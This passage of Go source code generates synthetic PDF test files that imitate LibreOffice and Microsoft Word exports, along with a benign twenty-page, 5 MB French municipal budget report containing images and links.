		Member{6, "<< /Type /Font /Subtype /TrueType /BaseFont /BAAAAA+LiberationSerif /FirstChar 0 /LastChar 30 /Widths [777 610 500 443 389 500 277 250 443 500 500 500 333 277 500 389 443 250 500 443 500 500 250 500 443 500 443 500 277 500 500] /FontDescriptor 7 0 R /ToUnicode 13 0 R >>"},
		Member{7, "<< /Type /FontDescriptor /FontName /BAAAAA+LiberationSerif /Flags 4 /FontBBox [-543 -303 1277 981] /ItalicAngle 0 /Ascent 891 /Descent -216 /CapHeight 981 /StemV 80 /FontFile2 12 0 R >>"},
		Member{8, "<< /Producer (LibreOffice 7.6) /CreationDate (D:20260929183000+02'00') >>"},
	)
	w.ObjStm(10, "", members, "FlateDecode")
	return w.XrefStream(11, "/Root 1 0 R /Info 8 0 R /ID [<5a7f0c1e> <5a7f0c1e>]", "FlateDecode:png=7")
}

// Word writes a PDF as Microsoft Word's "Save as PDF" does: a classic table after an
// object stream-free file for PDF/A, here with tagged content and an image.
func Word() []byte {
	w := NewPDF()
	for _, m := range Page(1, "/StructTreeRoot 6 0 R /MarkInfo << /Marked true >> /Lang (fr-FR)", "/Resources << /XObject << /Image5 5 0 R >> >> /Group << /Type /Group /S /Transparency /CS /DeviceRGB >> /Tabs /S /StructParents 0") {
		w.Obj(m.Num, m.Body)
	}
	w.Stream(4, "", []byte("/P <</MCID 0>> BDC BT /F1 11.04 Tf 1 0 0 1 72.024 769.52 Tm 0 g 0 G [(Compte )-3(rendu)] TJ ET EMC q 200 0 0 100 72 600 cm /Image5 Do Q"), "FlateDecode")
	w.RawStream(5, "/Type /XObject /Subtype /Image /Width 40 /Height 20 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Interpolate false /Filter /DCTDecode", jpegOf(40, 20))
	w.Obj(6, "<< /Type /StructTreeRoot /RoleMap << /Footnote /Note /Endnote /Note /Textbox /Sect /Header /Sect /Footer /Sect /InlineShape /Sect /Annotation /Sect /Artifact /Sect /Workbook /Document /Worksheet /Part /Macrosheet /Part /Chartsheet /Part /Dialogsheet /Part /Slide /Part /Chart /Sect /Diagram /Figure /Title /H1 >> /ParentTree 7 0 R /K [8 0 R] /ParentTreeNextKey 1 >>")
	w.Obj(7, "<< /Nums [0 [8 0 R]] >>")
	w.Obj(8, "<< /P 6 0 R /S /P /Type /StructElem /K [0] /Pg 3 0 R >>")
	return w.Xref("/Root 1 0 R /ID [<8f6d21d4a1a7ba4da6bd1bd8e4e0b0e3> <8f6d21d4a1a7ba4da6bd1bd8e4e0b0e3>]")
}

func fiveMBLinks() []string {
	var l []string
	for p := range 20 {
		l = append(l, fmt.Sprintf("https://www.mairie-exemple.fr/budget/%d", p+1))
	}
	return l
}

// FiveMB is a benign 5 MB report: twenty pages of text, each with a photograph.
func FiveMB() []byte {
	w := NewPDF()
	var kids []string
	for p := range 20 {
		n := 10 + 4*p
		kids = append(kids, fmt.Sprintf("%d 0 R", n))
		w.Obj(n, fmt.Sprintf("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> /XObject << /Im %d 0 R >> >> /Contents %d 0 R /Annots [%d 0 R] >>", n+2, n+1, n+3))
		var text []string
		for l := range 400 {
			text = append(text, fmt.Sprintf("Page %d, ligne %d : le conseil municipal a délibéré sur le budget primitif.", p+1, l+1))
		}
		content := append([]byte("q 400 0 0 300 72 400 cm /Im Do Q\n"), Text(text...)...)
		w.Stream(n+1, "", content, "FlateDecode")
		w.RawStream(n+2, "/Type /XObject /Subtype /Image /Width 800 /Height 600 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode", noise(240<<10, uint64(p)))
		w.Obj(n+3, link(fiveMBLinks()[p]))
	}
	w.Obj(1, "<< /Type /Catalog /Pages 2 0 R >>")
	w.Obj(2, fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count 20 >>", strings.Join(kids, " ")))
	w.Obj(3, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
	return w.Xref("/Root 1 0 R")
}
